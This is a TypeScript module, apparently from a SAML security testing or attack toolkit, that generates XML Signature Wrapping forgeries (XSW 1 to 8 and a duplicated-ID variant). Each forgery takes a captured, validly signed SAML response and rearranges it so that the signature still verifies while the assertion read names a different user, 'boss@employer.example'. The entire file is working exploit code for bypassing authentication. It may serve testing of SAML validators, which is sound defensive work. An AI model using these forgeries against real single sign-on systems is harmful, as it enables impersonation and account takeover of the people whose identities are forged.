import { randomUUID } from 'node:crypto';
import { buildResponse, encode, toParts, writeAssertion } from './build-response.ts';
import type { Loot } from './forgeries.ts';

interface Taken {
  /** The honest response, its two signatures and its assertion, as texts. */
  readonly response: string;
  readonly responseSignature: string;
  readonly assertion: string;
  readonly assertionSignature: string;
  /** The same assertion about someone else, not signed. */
  readonly evil: string;
}

/**
 * The eight known ways to wrap a signature: what was signed stays in the document where the signature finds it,
 * and what is read is another assertion, about someone else.
 */
export const wrappings: Readonly<Record<string, (loot: Loot) => string>> = {
  'XSW 1: the honest response inside the signature of a forged one': wrap((taken) => {
    const honest = taken.response.replace(taken.responseSignature, '');
    return forgedResponse(taken, (signature) => signature.replace('</ds:Signature>', `${honest}$&`));
  }),
  'XSW 2: the honest response before the signature of a forged one': wrap((taken) => {
    const honest = taken.response.replace(taken.responseSignature, '');
    return forgedResponse(taken, (signature) => honest + signature);
  }),
  'XSW 3: the forged assertion before the honest one': wrap((taken) =>
    taken.response.replace(taken.assertion, taken.evil + taken.assertion),
  ),
  'XSW 4: the honest assertion inside the forged one': wrap((taken) =>
    taken.response.replace(taken.assertion, inside(taken.evil, taken.assertion)),
  ),
  'XSW 5: the forged assertion with the signature of the honest one behind it': wrap((taken) => {
    const honest = taken.assertion.replace(taken.assertionSignature, '');
    const evil = withSignature(taken.evil, taken.assertionSignature);
    return taken.response.replace(taken.assertion, evil + honest);
  }),
  'XSW 6: the honest assertion inside the signature of the forged one': wrap((taken) => {
    const honest = taken.assertion.replace(taken.assertionSignature, '');
    const signature = taken.assertionSignature.replace('</ds:Signature>', `${honest}$&`);
    return taken.response.replace(taken.assertion, withSignature(taken.evil, signature));
  }),
  'XSW 7: the forged assertion among extensions': wrap((taken) =>
    taken.response.replace(
      taken.assertion,
      `<samlp:Extensions>${taken.evil}</samlp:Extensions>${taken.assertion}`,
    ),
  ),
  'XSW 8: the honest assertion in an object of the forged signature': wrap((taken) => {
    const honest = taken.assertion.replace(taken.assertionSignature, '');
    const object = `<ds:Object>${honest}</ds:Object>`;
    const signature = taken.assertionSignature.replace('</ds:Signature>', `${object}$&`);
    return taken.response.replace(taken.assertion, withSignature(taken.evil, signature));
  }),
  'the forged assertion with the id of the honest one': wrap((taken) => {
    const id = / ID="([^"]*)"/.exec(taken.assertion)?.[1] ?? '';
    const evil = taken.evil.replace(/ ID="[^"]*"/, ` ID="${id}"`);
    return taken.response.replace(taken.assertion, evil + taken.assertion);
  }),
};

function wrap(forge: (taken: Taken) => string) {
  return (loot: Loot): string => {
    const response = buildResponse(loot);
    const assertion = /<saml:Assertion .*<\/saml:Assertion>/s.exec(response)?.[0] ?? '';
    const signatures = response.match(/<ds:Signature .*?<\/ds:Signature>/gs) ?? [];
    const [responseSignature = '', assertionSignature = ''] = signatures;
    const boss = { ...loot, nameId: 'employee-1', email: 'boss@employer.example' };
    const evil = writeAssertion(toParts(boss));
    const forged = forge({ response, responseSignature, assertion, assertionSignature, evil });
    if (!forged.includes('boss@')) throw new Error('The forgery says nothing of anyone else');
    return encode(forged);
  };
}

/** A response of its own about someone else, which carries the honest signature changed by the forger. */
function forgedResponse(
  { response, responseSignature, assertion, evil }: Taken,
  change: (signature: string) => string,
): string {
  return response
    .replace(assertion, evil)
    .replace(/ ID="[^"]*"/, ` ID="_${randomUUID()}"`)
    .replace(responseSignature, () => change(responseSignature));
}

function withSignature(assertion: string, signature: string): string {
  return assertion.replace('</saml:Issuer>', (end) => end + signature);
}

function inside(outer: string, inner: string): string {
  return outer.replace('</saml:Assertion>', (end) => inner + end);
}
